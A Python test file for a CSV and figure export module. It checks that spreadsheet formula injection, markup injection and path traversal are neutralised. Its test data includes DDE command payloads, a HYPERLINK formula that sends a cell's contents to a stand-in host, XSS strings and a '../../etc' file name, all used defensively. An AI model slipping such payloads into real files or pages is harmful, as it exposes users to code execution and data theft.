"""A CSV reads back as the table it came from, and runs nothing in a spreadsheet."""

import io
import re
import shutil
import subprocess
from csv import reader
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pandas.testing import assert_frame_equal

import loaders
from loaders import reference
from outreach import exports, figures
from outreach.filters import Selection
from outreach.prepare import prepare
from outreach.summaries import table
from tests.outreach import small


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("@x", "'@x"),
        ("  =cmd", "'  =cmd"),
        ("|calc", "'|calc"),
        ("\t=1", "'\t'=1"),
        ("＝1+1", "'＝1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ('"=1+1', "'\"=1+1"),
        ("-5", "-5"),
        ("-1,234.5", "-1,234.5"),
        ("-12 %", "-12 %"),
        ("Kenya", "Kenya"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formulas_are_made_harmless(text: str, shown: str) -> None:
    assert exports.harmless(text) == shown


def test_a_csv_reads_back_as_the_table() -> None:
    table = pd.DataFrame(
        {
            "code": ["NA", "CIV"],
            "name": ["Namibia", 'Côte d’Ivoire, "CI"\nline'],
            "events": pd.array([3, None], dtype="Int64"),
            "change": [-5, 2],
            "day": pd.to_datetime(["2018-01-09", None]),
        }
    )
    written = exports.csv(table)
    assert written.startswith(b"\xef\xbb\xbfcode,name,events,change,day\r\n")
    back = pd.read_csv(
        io.BytesIO(written),
        keep_default_na=False,
        na_values={"events": [""], "day": [""]},
        dtype={"events": "Int64"},
        parse_dates=["day"],
    )
    assert_frame_equal(back, table, check_dtype=False)


def test_header_names_are_made_harmless_too_and_the_table_is_left_alone() -> None:
    table = pd.DataFrame([["=1", "x"]], columns=["=a", "=a"])
    assert exports.csv(table).decode("utf-8-sig") == "'=a,'=a\r\n'=1,x\r\n"
    assert table.iloc[0, 0] == "=1"


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ({}, "events-by-year.csv"),
        ({"organisation": ["wco"], "years": ["2014-2018"]}, "events-by-year_wco_2014-2018.csv"),
        ({"text": ["../../etc & 'x'"]}, "events-by-year_etc-x.csv"),
    ],
)
def test_file_names_say_what_and_which_filter(query: dict[str, list[str]], name: str) -> None:
    assert exports.file_name("events-by-year", query) == name


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('=HYPERLINK("http://x.example/"&A1,"open")', '\'=HYPERLINK("http://x.example/"&A1,"open")'),
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("－1", "'－1"),
        ("\u200b=1+1", "'\u200b=1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("%x", "'%x"),
        ("- none -", "'- none -"),
        ("+254 20 762 1234", "'+254 20 762 1234"),
        ("-12.5", "-12.5"),
        ("\t-5", "'\t-5"),
        ("a;=1+1;b", "a;'=1+1;b"),
        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
        ("a\n- b", "a\n- b"),
        ("a\n-2+cmd|'x'!A0", "a\n'-2+cmd|'x'!A0"),
        ("\u202e=evil 🙂", "'\u202e=evil 🙂"),
        ("Customs; -5 degrees", "Customs; -5 degrees"),
    ],
)
def test_formulas_are_made_harmless_behind_marks_and_separators(text: str, shown: str) -> None:
    assert exports.harmless(text) == shown


TEXTS = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=20)


@given(
    st.lists(
        st.tuples(
            TEXTS | st.sampled_from(["=1", '"', ",", ";", "\r\n", "🙂\u202e", "NA", "-5", "Côte d’Ivoire"]),
            st.none() | st.integers(-(2**53), 2**53),
            st.none() | st.dates(pd.Timestamp("1700-01-01").date(), pd.Timestamp("2200-01-01").date()),
        ),
        max_size=8,
    )
)
def test_every_cell_reads_back(rows: list[tuple]) -> None:
    table = pd.DataFrame(rows, columns=["text", "number", "day"])
    table = table.assign(
        text=table["text"].astype("str"),
        number=pd.array([number for _, number, _ in rows], dtype="Int64"),
        day=pd.to_datetime(table["day"]).astype("datetime64[us]"),
    )
    read = list(reader(io.StringIO(exports.csv(table).decode("utf-8-sig"), newline="")))
    assert read[0] == ["text", "number", "day"]
    assert read[1:] == [
        [exports.harmless(text), "" if number is None else str(number), day.isoformat() if day else ""]
        for text, number, day in rows
    ]


@pytest.mark.parametrize("dtype", ["str", "object", "category"])
def test_text_of_every_type_is_made_harmless(dtype: str) -> None:
    table = pd.DataFrame({"a": pd.Series(["=1", None, "x"]).astype(dtype), "b": [1, -2, 3]})
    assert exports.csv(table).decode("utf-8-sig") == "a,b\r\n'=1,1\r\n,-2\r\nx,3\r\n"


def test_namibia_is_not_missing_and_the_unknown_is_empty() -> None:
    table = pd.DataFrame({"code": pd.array(["NA", None], dtype="str"), "events": pd.array([2, None], dtype="Int64")})
    assert exports.csv(table).decode("utf-8-sig") == "code,events\r\nNA,2\r\n,\r\n"


def test_an_empty_table_has_its_header() -> None:
    assert exports.csv(pd.DataFrame(columns=["a", "b"])) == b"\xef\xbb\xbfa,b\r\n"


def test_equal_selections_give_equal_files() -> None:
    prepared = small.prepared()
    first = exports.csv(table("events", prepared, Selection()))
    shuffled = replace(
        small.dataset(),
        events=small.dataset().events[::-1].reset_index(drop=True),
        attendance=small.dataset().attendance[::-1].reset_index(drop=True),
    )
    again = prepare(shuffled, reference.frame("states"), reference.frame("memberships"))
    assert exports.csv(table("events", again, Selection())) == first


def test_names_that_are_cut_stay_apart() -> None:
    first, second = (
        exports.file_name("events", {"organisation": [*(f"organisation-{n}" for n in range(20)), last]})
        for last in ("wco", "iaea")
    )
    assert first != second
    assert len(first) <= 124


MARKUP = (
    "<img src=x onerror=alert(1)>",
    "<b>Bold</b> Institute",
    "A & B <Centre>",
    '<a href="javascript:alert(1)">S</a>',
)


@pytest.mark.parametrize("text", MARKUP)
def test_no_figure_takes_text_from_records_for_markup(text: str) -> None:
    told = small.dataset()
    told.events["title"] = text
    told.attendance["party_name"] = text
    names = dict.fromkeys(told.attendance["party_id"], text)
    prepared = prepare(told, reference.frame("states"), reference.frame("memberships"))
    prepared = replace(prepared, problem_kinds=reference.frame("problem_kinds"))
    chosen = Selection(state=("KEN",), organisation=("wco",))
    setting = figures.Setting(names, reference.frame("small_states"), selection=chosen)
    for name in figures.FIGURES:
        figure = figures.draw(name, table(name, prepared, chosen), setting)
        shown = re.sub(r"<(br|/?b|/?span[^<>]*|extra|/extra)>", "", " ".join(_texts(figure))) if figure else ""
        assert not re.search(r"<(img|a |b>B|Centre)", shown), name


def _texts(figure: object) -> list[str]:
    """Every text that a figure shows, also one shown letter by letter."""
    if isinstance(figure, dict):
        return [text for value in figure.values() for text in _texts(value)]
    if isinstance(figure, (list, tuple)):
        return [text for value in figure for text in _texts(value)]
    if hasattr(figure, "to_plotly_json"):
        told = figure.to_plotly_json()
        return _texts({key: value for key, value in told.items() if key != "customdata"})
    return [figure] if isinstance(figure, str) else []


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
@pytest.mark.parametrize("separator", ["44", "59", "9"])
def test_a_spreadsheet_runs_nothing_whatever_its_separator(separator: str, tmp_path: Path) -> None:
    """Opened as if commas, semicolons or tabs parted cells (44, 59, 9: their codes), no cell is a formula."""
    leads = [
        "=1+1",
        "+1+1",
        "@SUM(1)",
        "\t=1+1",
        "\n=1+1",
        " =1+1",
        '"=1+1',
        "＝1+1",
        "=1+1;=2+2",
        "a;=1+1;b",
        "a\t=1+1\tb",
    ]
    (tmp_path / "a.csv").write_bytes(exports.csv(pd.DataFrame({"=1+1": leads, "change": range(-5, 6)})))
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    filters = f"--infilter=Text - txt - csv (StarCalc):{separator},34,76,1,,0,false,true,false,false"
    command = ["soffice", profile, "--headless", filters, "--convert-to", "xlsx", "--outdir", str(tmp_path)]
    subprocess.run([*command, str(tmp_path / "a.csv")], capture_output=True, timeout=120, check=True)
    cells = [cell for row in openpyxl.load_workbook(tmp_path / "a.xlsx").active.iter_rows() for cell in row]
    assert len(cells) > len(leads)
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    if separator == "44":
        assert [cell.value for cell in cells if cell.data_type == "n"] == list(range(-5, 6))


def test_a_list_of_events_loads_again_with_the_same_sums(tmp_path: Path) -> None:
    told = small.dataset()
    told.events.loc[1, ["city", "country_code"]] = ["Windhoek", "NAM"]
    prepared = prepare(told, reference.frame("states"), reference.frame("memberships"))
    (tmp_path / "events.csv").write_bytes(exports.csv(table("events", prepared, Selection())))
    again = loaders.load([tmp_path]).events
    first = told.events[told.events["status"] == "held"]
    assert again["country_code"].value_counts().to_dict() == first["country_code"].value_counts().to_dict()
    assert sorted(again["participants"].dropna()) == sorted(first["participants"].dropna())
    assert again["participants"].isna().sum() == 1
